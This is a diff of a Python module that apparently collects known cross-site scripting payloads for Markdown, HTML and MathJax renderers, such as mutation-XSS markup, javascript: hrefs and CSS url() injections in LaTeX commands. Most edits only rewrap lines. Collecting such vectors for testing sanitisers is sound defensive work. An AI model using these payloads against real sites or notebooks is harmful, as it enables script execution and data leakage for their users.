@@ -1,8 +1,8 @@
 r"""Known ways to make a program of a text that is shown as Markdown or HTML.
 
-From the cheat sheets and public advisories on cross-site scripting, mutation XSS, Markdown parsers, MathJax and
-JupyterLab, read 2026-11. ``RUN`` stands for the program, ``QUOTED`` for it as part of an address, and ``URL`` for an
-address that must not be fetched.
+From the cheat sheets and public advisories on cross-site scripting, mutation XSS, Markdown parsers, MathJax
+and JupyterLab, read 2026-11. ``RUN`` stands for the program, ``QUOTED`` for it as part of an address, and
+``URL`` for an address that must not be fetched.
 """
 
 from __future__ import annotations
@@ -76,7 +76,8 @@ HTML = {
 }
 MUTATION = {
     "noscript": f'<noscript><p title="</noscript>{IMG}">',
-    "mglyph": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=RUN&gt;">',
+    "mglyph": "<math><mtext><table><mglyph><style><!--</style>"
+    '<img title="--&gt;&lt;img src=x onerror=RUN&gt;">',
     "svg style": f'<svg></p><style><a id="</style>{IMG}"></svg>',
     "form in math": f"<form><math><mtext></form><form><mglyph><style></math>{IMG}",
     "select": f"<select><style><img title='</style></select>{IMG}'>",
@@ -189,8 +190,8 @@ MATHEMATICS = {
     "font": "$\\unicode[a; background: url(URL)]{x263a}$",
     "frame": "$\\fcolorbox{red; background: url(URL)}{red}{x}$",
     "frame of a colour": "$\\definecolor{a}{named}{red; background: url(URL)}\\fcolorbox{a}{a}{x}$",
-    "colours": "$\\color{red; background: url(URL)}x \\colorbox{red; background: url(URL)}{\\textcolor{url(URL)}{x}}$",
-    "notation": '$\\enclose{box}[style="background: url(URL)", mathbackground="url(URL)", href="javascript:RUN"]{x}$',
+    "colours": "$\\color{red; background: url(URL)}x \\colorbox{red; background: url(URL)}{x}$",
+    "notation": '$\\enclose{box}[style="background: url(URL)", href="javascript:RUN"]{x}$',
     "table": "$\\begin{array}[style: url(URL)]{c}\\rowcolor{red; background: url(URL)}x\\end{array}$",
     "options": "$\\setOptions[color]{borderWidth=1px; background: url(URL)}\\fbox{x}$",
     "chemistry": "$\\ce{$\\href{javascript:RUN}{x}$} \\ce{A ->[\\href{javascript:RUN}{x}] B}$",
